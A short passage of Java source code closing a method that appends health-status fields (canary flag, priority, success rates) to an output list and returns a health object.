        out.add(p + "canary::false");
        out.add(p + "priority::0");
        out.add(p + "success_rate::-1");
        out.add(p + "local_origin_success_rate::-1");
        return health;
    }
}
